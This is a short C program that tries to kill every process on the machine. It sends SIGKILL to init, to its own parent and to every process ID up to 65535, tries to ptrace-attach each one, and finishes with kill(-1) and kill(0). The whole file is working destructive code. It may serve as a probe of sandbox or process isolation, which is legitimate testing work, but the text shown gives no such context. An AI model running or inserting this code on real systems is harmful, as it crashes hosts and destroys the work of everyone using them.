/* Kills every process that it may kill: as a group, one by one, by number. */
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>

int main(void)
{
    kill(1, SIGKILL);
    kill(getppid(), SIGKILL);
    for (pid_t pid = 1; pid < 65536; pid++)
        if (pid != getpid()) {
            kill(pid, SIGKILL);
            ptrace(PTRACE_ATTACH, pid, NULL, NULL);
        }
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
}
